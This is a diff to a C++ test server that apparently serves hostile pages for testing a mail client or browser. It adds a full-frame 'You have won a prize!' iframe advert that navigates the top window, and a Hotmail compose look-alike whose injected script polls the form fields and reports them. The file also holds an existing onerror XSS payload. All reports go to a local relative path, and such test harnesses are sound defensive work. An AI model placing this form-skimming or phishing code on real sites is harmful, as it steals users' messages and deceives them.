@@ -1,5 +1,6 @@
 #include "hostile_pages.h"
 
+#include "compose_pages.h"
 #include "mail_pages.h"
 #include "web_text.h"
 
@@ -102,7 +103,41 @@ Mailbox::Message markupMessage() {
             .body = "<img src=x onerror=\"fetch('/hostile/report?page=onerror')\">"};
 }
 
+// `html` placed at the end of the page's body.
+std::string beforeBodyEnd(std::string page, const std::string &html) {
+    const std::size_t end = page.rfind("</body>");
+    return page.insert(end == std::string::npos ? page.size() : end, html);
+}
+
+// An advert: one link over the whole frame that takes the top window to a page named like a
+// service's. The address is relative, so it stays on the origin the frame came from.
+constexpr std::string_view advert =
+    "<a id=\"prize\" href=\"/hostile/hotmail/clicked/x\" target=\"_top\" "
+    "style=\"display:block;position:fixed;inset:0;background:#fc0\">You have won a prize!</a>";
+
+// A Hotmail compose page look-alike whose script sends home whatever lands in its fields.
+std::string foreignComposePage() {
+    return beforeBodyEnd(
+        ComposePages::composePage(MailPages::Provider::Hotmail),
+        "<script>\r\n(function () {\r\n"
+        "  const f = document.forms.composeform;\r\n"
+        "  let last = '';\r\n"
+        "  setInterval(() => {\r\n"
+        "    const now = [f.to.value, f.subject.value, f.body.value].join('|');\r\n"
+        "    if (now === '||' || now === last) return;\r\n"
+        "    last = now;\r\n"
+        "    fetch('/hostile/report?' + new URLSearchParams({page: 'compose', fields: now}));\r\n"
+        "  }, 50);\r\n"
+        "})();\r\n</script>");
+}
+
 } // namespace
+
+std::string withAdvert(std::string page, const std::string &frameAddress) {
+    return beforeBodyEnd(std::move(page), "<iframe name=\"ad\" id=\"ad\" src=\"" +
+                                              WebText::escapeHtml(frameAddress) +
+                                              "\" style=\"width:300px;height:120px\"></iframe>\r\n");
+}
 
 void install(httplib::Server &server) {
     static ReportLog log;
@@ -121,6 +156,14 @@ void install(httplib::Server &server) {
     server.Get("/hostile/yahoo/message", [html](const httplib::Request &, httplib::Response &res) {
         html(res, MailPages::messagePage(MailPages::Provider::Yahoo, markupMessage(), 0));
     });
+    server.Get("/hostile/ad", [html](const httplib::Request &, httplib::Response &res) {
+        html(res, WebText::htmlPage("Advert", advert));
+    });
+    server.Get("/hostile/hotmail/clicked/x", [html](const httplib::Request &, httplib::Response &res) {
+        html(res, WebText::htmlPage("Prize", "<h1>Claim your prize</h1>"));
+    });
+    server.Get("/hostile/compose",
+               [html](const httplib::Request &, httplib::Response &res) { html(res, foreignComposePage()); });
     const auto report = [html](const httplib::Request &req, httplib::Response &res) {
         // The query's fields and a posted form's (which the server adds to the parameters).
         Report entry{req.get_param_value("page"), {}};
